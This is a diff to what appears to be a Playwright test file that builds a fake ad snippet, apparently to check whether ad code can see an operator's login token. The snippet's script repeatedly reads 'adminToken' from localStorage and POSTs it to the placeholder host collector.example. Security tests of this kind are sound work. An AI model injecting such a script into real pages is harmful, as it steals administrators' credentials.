@@ -13,13 +13,15 @@ export const adOn = (page: Page) => page.getByRole('complementary', { name: 'Adv
 export const linkTo = (page: Page, path: string) =>
   page.getByRole('navigation', { name: 'Main' }).locator(`[href="${path}"]`)
 
-/** Ad code that looks for the operator's login again and again; what it finds is told elsewhere. */
+/** Ad code that looks for the operator's login again and again; what it finds is told elsewhere, one thing at a time. */
 const SPY = `<p>Spy</p><script>
-  setInterval(() => {
+  const look = async () => {
     let found
     try { found = String(localStorage.getItem('adminToken')) } catch (error) { found = error.name }
-    fetch('https://collector.example/', { method: 'POST', mode: 'no-cors', body: found })
-  }, 50)
+    await fetch('https://collector.example/', { method: 'POST', mode: 'no-cors', body: found })
+    setTimeout(look, 50)
+  }
+  look()
 </script>`
 
 /** What an ad finds in one tab while the operator logs in in another, at `adm`. */
